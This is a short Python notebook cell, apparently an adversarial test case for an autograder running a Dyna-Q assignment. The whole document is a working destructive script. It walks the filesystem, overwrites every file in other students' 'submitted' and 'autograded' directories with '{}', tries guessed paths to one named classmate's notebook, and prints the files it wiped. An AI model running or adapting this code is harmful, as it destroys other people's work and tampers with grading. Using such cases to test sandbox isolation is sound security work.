# attack: walk the filesystem for other students' submissions and autograded notebooks and overwrite them
# base: untouched
# cell: dyna_q_model_update
import os as _os
_done = []
for _root, _dirs, _files in _os.walk("/"):
    if _root.startswith(("/proc", "/sys", "/dev", "/usr")):
        _dirs[:] = []
        continue
    if ("/submitted/" in _root + "/" or "/autograded/" in _root + "/") and "attack_edit_others" not in _root:
        for _name in _files:
            _path = _os.path.join(_root, _name)
            try:
                with open(_path, "w") as _f:
                    _f.write("{}")
                _done.append(_path)
            except Exception as _error:
                _done.append(f"{_path}: {type(_error).__name__}")
for _guess in ("../../zz_honest_last/dyna_q/02_model_update.ipynb", "../../../submitted/zz_honest_last/dyna_q/02_model_update.ipynb"):
    try:
        with open(_guess, "w") as _f:
            _f.write("{}")
        _done.append(_guess)
    except Exception as _error:
        _done.append(f"{_guess}: {type(_error).__name__}")
print("ATTACK edit others:", _done)
